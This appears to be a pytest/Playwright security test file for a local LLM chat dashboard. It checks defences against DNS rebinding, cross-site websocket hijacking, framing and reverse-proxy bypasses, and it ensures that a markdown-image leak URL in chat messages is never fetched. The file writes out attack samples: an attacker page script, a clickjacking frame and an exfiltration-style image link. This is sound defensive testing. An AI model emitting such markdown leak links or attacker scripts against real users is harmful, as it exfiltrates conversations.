"""What a browser may reach: nothing for a foreign host name (DNS rebinding) or another site's page, and
no request from the dashboard to any host but its own, on every page, in both languages."""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Playwright, Route, expect

from core.chat.service import ChatService
from core.storage import repo
from core.storage.db import Database
from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS, OUTBOUND_AUDIT, running_app
from tests.fixtures.hub_server import SHUTDOWN_POLL_S

pytestmark = pytest.mark.e2e
LEAK = "http://198.51.100.7/leak?q=the-conversation"  # TEST-NET-2: never answered


@pytest.fixture(scope="module")
def rebinding_browser(playwright: Playwright) -> Iterator[Browser]:
    """Chromium for which every *.test name resolves to 127.0.0.1, as after DNS rebinding."""
    rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
    instance = playwright.chromium.launch(
        executable_path=CHROMIUM, headless=True, args=[*CHROMIUM_ARGS, rules]
    )
    yield instance
    instance.close()


@pytest.fixture
def attacker_site() -> Iterator[int]:
    """A page on another site that opens a websocket to the dashboard (/frame: frames it) and reports
    what happened."""

    class Page(BaseHTTPRequestHandler):
        def log_message(self, *_args: object) -> None:
            pass

        def do_GET(self) -> None:
            path, _, target = self.path.partition("?")
            if path == "/frame":  # the dashboard in a frame, under decoys that take the user's clicks
                body = f"""<p id=state>loading</p><iframe src="http://{target}/"
                    onload="document.getElementById('state').textContent = 'loaded'"></iframe>""".encode()
            else:
                body = f"""<p id=state>connecting</p><script>
                    const socket = new WebSocket("ws://{target}/_stcore/stream");
                    socket.onopen = () => document.getElementById("state").textContent = "opened";
                    socket.onclose = () => {{ const s = document.getElementById("state");
                        if (s.textContent !== "opened") s.textContent = "refused"; }};
                </script>""".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, args=(SHUTDOWN_POLL_S,), daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def test_a_foreign_host_name_and_another_sites_page_get_nothing(
    rebinding_browser: Browser, browser: Browser, app_url: str, attacker_site: int
) -> None:
    port = urlsplit(app_url).port
    page = rebinding_browser.new_context(locale="en-US").new_page()
    response = page.goto(f"http://rebind.test:{port}/")
    assert response.status == 400
    expect(page.get_by_text("does not answer to the host name 'rebind.test")).to_be_visible()
    assert page.locator("#root").count() == 0  # no app, not even its shell

    evil = browser.new_context(locale="en-US").new_page()
    evil.goto(f"http://127.0.0.1:{attacker_site}/?localhost:{port}")
    expect(evil.locator("#state")).to_have_text("refused", timeout=30_000)
    # Framed, the dashboard would load from its own address and pass the checks above: it is not shown.
    evil.goto(f"http://127.0.0.1:{attacker_site}/frame?localhost:{port}")
    expect(evil.locator("#state")).to_have_text("loaded", timeout=30_000)
    [framed] = evil.main_frame.child_frames
    assert not framed.url.startswith("http://localhost"), framed.url  # the browser's error page instead

    own = browser.new_context(locale="en-US").new_page()  # the same app by its own name works
    own.goto(app_url)
    expect(own.get_by_role("heading", name="Chat")).to_be_visible(timeout=30_000)


def _answer(port: int, request: str) -> str:
    """The dashboard's answer to a raw request: all of it when the request asks to close the connection
    after it, else its head (a websocket's handshake)."""
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        connection.sendall(request.encode())
        while chunk := connection.recv(4096):
            answer += chunk
            if b"\r\n\r\n" in answer and "Connection: close" not in request:
                break
    return answer.decode(errors="replace")


def _websocket_status(port: int, host: str, origin: str) -> int:
    """The status a websocket handshake to the dashboard gets, with these Host and Origin headers."""
    key = base64.b64encode(os.urandom(16)).decode()
    return int(_answer(port, (
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nOrigin: {origin}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )).split(" ")[1])  # fmt: skip


def test_behind_a_reverse_proxy_the_dashboard_connects_and_visitors_sign_in(
    rebinding_browser: Browser, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reverse proxy on this machine (its name in LOCALLLM_ALLOWED_HOSTS) that passes no
    X-Forwarded-For: every visitor connects from loopback. They were taken for this machine's own user
    (no sign-in, the settings open to all). And nginx's default `proxy_pass` also sends
    `Host: 127.0.0.1:PORT` with the proxy's name in Origin: Streamlit refused that websocket, after
    asking checkip.amazonaws.com for this machine's address, so the dashboard never loaded."""
    monkeypatch.setenv("LOCALLLM_ALLOWED_HOSTS", "llm.test")
    monkeypatch.setenv("LOCALLLM_PASSWORD", "open sesame")
    with running_app(log_path=isolated_env / "app.log") as app:
        rewritten = f"127.0.0.1:{app.port}"
        assert _websocket_status(app.port, rewritten, f"https://llm.test:{app.port}") == 101
        assert _websocket_status(app.port, rewritten, "https://evil.test") == 403
        assert _websocket_status(app.port, rewritten, f"http://{rewritten}") == 101
        # Its uploads too (Streamlit's upload endpoint, before Streamlit sees them): a visitor's page is
        # the proxy's, this machine's user's is this machine's.
        upload = (
            f"PUT /_stcore/upload_file/s/f HTTP/1.1\r\nHost: {rewritten}\r\nContent-Length: 0\r\n"
            "Connection: close\r\n"
        )
        assert "Sign in first." in _answer(app.port, f"{upload}Origin: https://llm.test:{app.port}\r\n\r\n")
        assert "Sign in first." not in _answer(app.port, f"{upload}Origin: http://{rewritten}\r\n\r\n")
        # Through the proxy's name, as a proxy that keeps Host sends it (chromium maps *.test here).
        visitor = rebinding_browser.new_context(locale="en-US").new_page()
        visitor.goto(f"http://llm.test:{app.port}/")
        expect(visitor.get_by_role("heading", name="Sign in")).to_be_visible(timeout=30_000)
        expect(visitor.get_by_role("heading", name="Chat")).to_have_count(0)
        local = rebinding_browser.new_context(locale="en-US").new_page()
        local.goto(app.url)
        expect(local.get_by_role("heading", name="Chat")).to_be_visible(timeout=30_000)


def test_the_audit_of_the_apps_records_what_would_leave_the_machine(tmp_path: Path) -> None:
    """The check every browser test's app gets (tests/e2e/conftest.py): a UDP socket's connect sends
    nothing, and is recorded all the same; loopback is not."""
    log = tmp_path / "outbound"
    script = (
        "import socket\n"
        "for address in ('127.0.0.1', '198.51.100.7'):\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect((address, 9))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(OUTBOUND_AUDIT), "LOCALLLM_TEST_OUTBOUND_LOG": str(log)}
    subprocess.run([sys.executable, "-c", script], env=env, check=True, timeout=60)
    assert log.read_text().split()[1:] == ["socket.connect", "'198.51.100.7'"]


def outside_requests(page: Page, own: str) -> list[str]:
    """Every request to a host other than `own` is recorded and refused (this machine is offline)."""
    seen: list[str] = []

    def check(route: Route) -> None:
        url = route.request.url
        if urlsplit(url).scheme in ("http", "https", "ws", "wss") and urlsplit(url).netloc != own:
            seen.append(url)
            route.abort()
        else:
            route.continue_()

    page.route("**/*", check)
    return seen


PAGE_TITLES = {
    "en-US": ("Chat", "Models", "Model servers", "Hardware & Settings"),
    "zh-CN": ("聊天", "模型", "模型服务", "硬件与设置"),
}


@pytest.mark.parametrize(("locale", "pages"), PAGE_TITLES.items())
def test_no_page_makes_the_browser_fetch_from_another_host(
    browser: Browser, short_replies: str, app_url: str, locale: str, pages: tuple[str, ...]
) -> None:
    db = Database(os.environ["LOCALLLM_DB_URL"])
    chat = ChatService(db, provider=lambda: None)
    conversation = chat.new_conversation(f"![title]({LEAK})")
    with db.begin() as session:
        repo.add_message(session, conversation.id, "user", "Show me a picture")
        answer = f"Here: ![a cat]({LEAK}) and `![code]({LEAK})`, \\(A = \\pi r^2\\) for $5 or $10"
        repo.add_message(session, conversation.id, "assistant", answer, finish_reason="stop")
    page = browser.new_context(locale=locale, viewport={"width": 1280, "height": 900}).new_page()
    outside = outside_requests(page, urlsplit(app_url).netloc)
    page.goto(app_url)
    sidebar = page.get_by_test_id("stSidebar")
    conversation_button = sidebar.get_by_role("button", name=f"![title]({LEAK})")  # its title as text
    expect(conversation_button).to_be_visible(timeout=30_000)
    conversation_button.click()
    reply = page.get_by_test_id("stChatMessage").nth(1)
    expect(reply.get_by_role("link", name="a cat")).to_have_attribute("href", LEAK)  # a link, not a fetch
    assert reply.locator("img").count() == 0
    expect(reply.locator("code")).to_contain_text(f"![code]({LEAK})")
    expect(reply.locator(".katex")).to_have_count(1)  # the math, drawn with the fonts Streamlit serves
    expect(reply).to_contain_text("for $5 or $10")  # money, not math
    for title in pages[1:]:
        sidebar.get_by_role("link", name=title, exact=True).click()
        expect(page.get_by_role("heading", name=title, exact=True)).to_be_visible(timeout=30_000)
    sidebar.get_by_role("link", name=pages[0], exact=True).click()
    expect(page.get_by_role("heading", name=pages[0], exact=True)).to_be_visible(timeout=30_000)
    assert outside == []
